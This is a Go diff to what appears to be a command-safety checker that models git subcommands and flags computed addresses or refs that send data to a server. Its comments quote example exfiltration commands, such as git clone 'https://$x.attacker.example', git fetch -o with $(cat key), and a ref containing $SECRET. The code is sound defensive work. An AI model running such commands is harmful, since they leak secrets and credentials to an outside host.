@@ -266,12 +266,12 @@ func gitModel() *Spec {
 			armed(gitSub("update", nil), "git lfs update "+whyHooks)),
 		gitWithSubs("subtree", gitEffect("push", "git_push", nil)),
 		gitWithSubs("p4", gitEffect("submit", "", nil)),
-		fromAddress(gitSub("fetch", list(gitPackProgram("", "upload-pack"), flag("u", "update-head-ok"), gitStdinRefs(),
+		fromAddressAndRefs(gitSub("fetch", list(gitPackProgram("", "upload-pack"), flag("u", "update-head-ok"), gitStdinRefs(),
 			val("j", RoleData, "jobs"), opt("", RoleData, "recurse-submodules"), val("", RoleData, "depth"),
 			val("", RoleData, "deepen"), val("", RoleData, "shallow-since"), val("", RoleData, "shallow-exclude"),
 			val("", RoleData, "refmap"), val("o", RoleData, "server-option"), val("", RoleData, "negotiation-tip"),
 			val("", RoleData, "filter"), val("", RolePath, "submodule-prefix")))),
-		fromAddress(gitEffectSub("pull", "merges what it fetches into the work tree, as git merge does, and may write any file a commit holds", list(gitPackProgram("", "upload-pack"), opt("r", RoleData, "rebase"),
+		fromAddressAndRefs(gitEffectSub("pull", "merges what it fetches into the work tree, as git merge does, and may write any file a commit holds", list(gitPackProgram("", "upload-pack"), opt("r", RoleData, "rebase"),
 			gitStrategy("s"), val("X", RoleData, "strategy-option"), opt("S", RoleData, "gpg-sign"),
 			opt("j", RoleData, "jobs"), val("", RoleData, "depth"), val("o", RoleData, "server-option"),
 			opt("", RoleData, "recurse-submodules"), val("", RoleData, "cleanup")))),
@@ -287,9 +287,9 @@ func gitModel() *Spec {
 		gitSub("init", list(val("", RolePath, "template").does(EffExternal, "git init --template copies hooks from this directory into the repository, where git runs them"),
 			gitSeparateDir(), gitBare(), opt("", RoleData, "shared"), val("b", RoleData, "initial-branch"),
 			val("", RoleData, "object-format", "ref-format"))),
-		fromAddress(gitSub("ls-remote", list(gitPackProgram("u", "upload-pack", "exec"), val("", RoleData, "sort"),
+		fromAddressAndRefs(gitSub("ls-remote", list(gitPackProgram("u", "upload-pack", "exec"), val("", RoleData, "sort"),
 			val("o", RoleData, "server-option")))),
-		fromAddress(gitSub("fetch-pack", list(gitPackProgram("", "upload-pack", "exec"), val("", RoleData, "depth"), gitStdinRefs()))),
+		fromAddressAndRefs(gitSub("fetch-pack", list(gitPackProgram("", "upload-pack", "exec"), val("", RoleData, "depth"), gitStdinRefs()))),
 		gitSub("archive", list(gitPackProgram("", "exec"),
 			val("", RoleRemote, "remote").does(EffExternal, "git archive --remote runs git-upload-archive on another host, over ssh"),
 			val("o", RolePath, "output").output(), val("", RoleData, "format", "prefix", "mtime"),
@@ -412,25 +412,35 @@ func judgeGitTransports(r *Result, words []string) {
 }
 
 // fromAddress gives a subcommand that reaches the repository its first
-// operand names (git clone, fetch, pull, ls-remote, submodule add) the
-// check that the address and the options' values are written out: a
-// variable's value or a command's output in them leaves the machine with
-// the request, in the host name, the path or what is asked of the server
-// (git ls-remote "https://$x.attacker.example", git fetch -o "$(cat key)").
-func fromAddress(s *Spec) *Spec {
+// operand names (git clone, submodule add) the check that the address and
+// the options' values are written out: a variable's value or a command's
+// output in them leaves the machine with the request, in the host name,
+// the path or what is asked of the server (git clone
+// "https://$x.attacker.example", git clone -o "$(cat key)"). The later
+// operands of these are local directories.
+func fromAddress(s *Spec) *Spec { return reachesServer(s, false) }
+
+// fromAddressAndRefs is fromAddress for a subcommand whose later operands
+// are refs or ref patterns (git fetch, pull, ls-remote, fetch-pack): git
+// sends them to the server too, as the ref prefixes it asks for (git
+// fetch origin "refs/heads/$SECRET"), so a computed one is checked as the
+// address is.
+func fromAddressAndRefs(s *Spec) *Spec { return reachesServer(s, true) }
+
+func reachesServer(s *Spec, refs bool) *Spec {
 	s.Judge = func(r *Result, _ []string) {
-		address := true // the first operand is the address; later ones are refs and directories
+		address := true // the first operand is the address; later ones are refs or directories
 		for _, it := range r.Items {
 			if it.Kind != KindOperand && it.Kind != KindValue {
 				continue
 			}
-			if (it.Kind == KindValue || address) && (it.Computed || strings.Contains(it.Text, "$(") || strings.IndexByte(it.Text, '`') >= 0) {
+			if (it.Kind == KindValue || address) && it.computedText() {
 				r.Effects |= EffExternal
 				r.Findings = append(r.Findings, Finding{Effect: EffExternal, Word: it.Word,
-					Why: "a computed address or option value: what a variable or a command puts in it leaves the machine with the request"})
+					Why: whyComputedRequest})
 				return
 			}
-			if it.Kind == KindOperand {
+			if it.Kind == KindOperand && !refs {
 				address = false
 			}
 		}
